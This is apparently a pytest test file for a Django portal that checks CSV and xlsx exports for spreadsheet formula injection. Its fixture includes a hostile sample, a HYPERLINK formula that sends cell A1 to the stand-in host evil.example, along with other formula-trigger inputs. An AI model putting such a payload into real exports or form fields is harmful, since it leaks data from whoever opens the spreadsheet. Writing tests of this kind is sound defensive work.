"""No exported cell runs as a formula (issue 11 §2): CSV, xlsx, every admin export, the orders' CSV.

| cell                        | CSV                    | xlsx                                   |
|-----------------------------|------------------------|----------------------------------------|
| `=HYPERLINK("http://x")`    | `'=HYPERLINK(...)`     | text (not a formula), quote prefix     |
| `+7 ••• •••-••-68`, `-1+2`  | led by `'`             | text, quote prefix                     |
| `@SUM(A1)`, tab…, CR…       | led by `'`             | text, quote prefix                     |
| `-150.00`, `+5`, `42`       | as it is (a number)    | as it is                               |
| `Кино`, empty, numbers      | as it is               | as it is                               |
"""

import datetime
import io

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from openpyxl import Workbook

from campaigns.resources import CampaignResource
from config.floor.spreadsheets import PortalCSV, PortalXLSX, neutralised, styled
from tests.campaigns.factories import AgentProfileFactory, CampaignFactory, ConnectionOrderFactory

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'

TABLE = [
    (HOSTILE, "'" + HOSTILE),
    ("+7 ••• •••-••-68", "'+7 ••• •••-••-68"),
    ("-1+2", "'-1+2"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("\ncmd", "'\ncmd"),  # a CR in xlsx reads back as a LF
    ("-150.00", "-150.00"),
    ("-150,00", "-150,00"),
    ("+5", "+5"),
    ("Кино", "Кино"),
    ("", ""),
    (42, 42),
    (None, None),
]


@pytest.mark.parametrize(("cell", "expected"), TABLE)
def test_csv_cells_that_would_run_are_led_by_an_apostrophe(cell, expected):
    assert neutralised(cell) == expected


def _book(rows, write_only=False):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("Лист") if write_only else book.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_cells_that_would_run_are_text_as_typed_with_the_quote_prefix(write_only):
    texts = [cell for cell, _expected in TABLE if isinstance(cell, str) and cell]
    data = styled(_book([["Имя"] * len(texts), texts], write_only=write_only))

    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    for cell, text in zip(sheet[2], texts, strict=True):
        assert cell.value == text.replace("\r", "\n")  # XML keeps no bare CR
        assert cell.data_type == "s", text
        assert cell.quotePrefix is (neutralised(text) != text), text


def test_an_xlsx_written_with_a_formula_holds_no_formula_after_styling():
    data = styled(_book([["Имя"], [HOSTILE]]))

    raw = _sheet_xml(data)
    assert "<f>" not in raw
    assert "HYPERLINK" in raw


def _sheet_xml(data):
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_every_admin_export_goes_through_the_neutralising_formats():
    exporting = [a for a in admin.site._registry.values() if hasattr(a, "get_export_formats")]
    assert len(exporting) >= 5
    for model_admin in exporting:
        for file_format in model_admin.get_export_formats():
            assert issubclass(file_format, PortalCSV | PortalXLSX), (model_admin, file_format)


@pytest.mark.django_db
def test_the_admins_csv_and_xlsx_exports_carry_no_formula(client, manager):
    client.force_login(manager)
    CampaignFactory(code="evil", name=HOSTILE, starts_on=datetime.date(2026, 10, 1))
    url = reverse("admin:campaigns_campaign_export")
    selected = {"campaignresource_code": "on", "campaignresource_name": "on"}
    assert "name" in CampaignResource().fields

    csv_text = client.post(url, {"resource": "0", "format": "0", **selected}).content
    assert "'=HYPERLINK" in csv_text.decode("utf-8-sig")

    xlsx = client.post(url, {"resource": "0", "format": "1", **selected}).content
    assert "<f>" not in _sheet_xml(xlsx)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    assert sheet["B2"].value == HOSTILE and sheet["B2"].quotePrefix


@pytest.mark.django_db
def test_the_orders_csv_carries_no_formula(client):
    agent = AgentProfileFactory().user
    ConnectionOrderFactory(agent=agent, full_name=HOSTILE)
    client.force_login(agent)

    text = client.get("/orders/export.csv").content.decode("utf-8-sig")

    row = text.splitlines()[1]
    assert "'=HYPERLINK" in row
    assert ";=" not in row and not row.startswith("=")
